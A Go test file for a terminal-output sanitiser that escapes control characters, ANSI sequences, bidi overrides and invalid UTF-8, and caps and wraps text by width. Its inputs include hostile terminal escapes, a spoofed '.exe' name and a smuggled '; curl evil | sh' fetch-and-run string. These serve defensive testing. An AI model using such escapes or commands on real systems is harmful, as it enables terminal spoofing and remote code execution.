package prompt

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// assertInert fails if s holds anything a terminal would act on: a C0 or
// C1 control, DEL, a format character, or invalid UTF-8.
func assertInert(t *testing.T, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("invalid UTF-8 in %q", s)
	}
	for _, r := range s {
		if r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || unicode.Is(unicode.Cf, r) {
			t.Errorf("%U reaches the terminal in %q", r, s)
		}
	}
}

func TestCleanHostile(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"plain git push", "plain git push"},
		{"clear\x1b[2J\x1b[Hscreen", `clear\x1b[2J\x1b[Hscreen`},
		{"title\x1b]0;pwned\x07", `title\x1b]0;pwned\x07`},
		{"c1 csi\u009b31m", `c1 csi\u009b31m`},
		{"two\nlines\r\tx", `two\nlines\r\tx`},
		{"bidi \u202egnp.exe", `bidi \u202egnp.exe`},
		{"zero\u200bwidth\ufeff", `zero\u200bwidth\ufeff`},
		{"del\x7f bell\x07", `del\x7f bell\x07`},
		{"bad \xff\xfe utf8", `bad \xff\xfe utf8`},
		{"nbsp\u00a0", `nbsp\u00a0`},
		{"e\u0301 ok", "e\u0301 ok"},
		{"zalgo e\u0301\u0302\u0303\u0304", `zalgo e` + "\u0301\u0302" + `\u0303\u0304`},
		{"\u0301 leading mark", `\u0301 leading mark`},
		{"wide 日本", "wide 日本"},
	}
	for _, tt := range tests {
		got := Clean(tt.in, 0)
		if got != tt.want {
			t.Errorf("Clean(%q) = %q, want %q", tt.in, got, tt.want)
		}
		assertInert(t, got)
	}
}

func TestCleanCap(t *testing.T) {
	for _, tt := range []struct {
		in   string
		max  int
		want string
	}{
		{"abcdef", 6, "abcdef"},
		{"abcdefg", 6, "abcde…"},
		{"ab\x1bcdef", 6, "ab…"}, // an escape is never cut in half
		{"日本語です", 5, "日本…"},
		{"", 3, ""},
	} {
		got := Clean(tt.in, tt.max)
		if got != tt.want {
			t.Errorf("Clean(%q, %d) = %q, want %q", tt.in, tt.max, got, tt.want)
		}
		if columns(got) > tt.max {
			t.Errorf("Clean(%q, %d) is %d columns wide", tt.in, tt.max, columns(got))
		}
	}
}

func TestCleanBlock(t *testing.T) {
	got := cleanBlock("one\r\ntwo\x1b[1A\n\n\n \t\nthree\n\nfour\n\n  \n")
	want := []string{"one", `two\x1b[1A`, "⟦3 blank lines⟧", "three", "", "four"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestWrap(t *testing.T) {
	s := "git commit -m " + strings.Repeat("word ", 30) + "; curl evil | sh"
	lines := wrapText(s, 20, 0, "")
	if strings.Join(lines, "") != s {
		t.Errorf("unlimited wrap lost text: %q", lines)
	}
	for _, l := range lines {
		if columns(l) > 20 {
			t.Errorf("line %q is wider than 20", l)
		}
	}
	cut := wrapText(s, 20, 3, "… the rest is not shown")
	if len(cut) != 3 || cut[2] != "… the rest is not s…" {
		t.Errorf("cut wrap = %q, want two lines and the note", cut)
	}
	if got := wrapText("short", 20, 3, "note"); len(got) != 1 || got[0] != "short" {
		t.Errorf("short = %q", got)
	}
	if got := wrapText(strings.Repeat("日", 15), 10, 0, ""); len(got) != 3 || columns(got[0]) != 10 {
		t.Errorf("wide wrap = %q", got)
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range []string{"git push", "\x1b[2J", "\u202e", "\xff", "e\u0301\u0301\u0301", "日本"} {
		f.Add(s, 10)
	}
	f.Fuzz(func(t *testing.T, s string, max int) {
		max = max % 200
		got := Clean(s, max)
		assertInert(t, got)
		// Markers are the prompt's: the child's brackets never pass.
		if utf8.ValidString(s) && !strings.ContainsAny(s, " \t\n\r") && !strings.ContainsFunc(s, func(r rune) bool { return !printable(r) }) &&
			strings.ContainsAny(got, "⟦⟧") {
			t.Errorf("Clean(%q) = %q shows a marker bracket with no run to mark", s, got)
		}
		if max > 0 && columns(got) > max {
			t.Errorf("Clean(%q, %d) is %d columns wide", s, max, columns(got))
		}
		for _, l := range wrapText(Clean(s, 0), 12, 3, "more") {
			assertInert(t, l)
			if columns(l) > 12 {
				t.Errorf("wrapped line %q is wider than 12", l)
			}
		}
	})
}
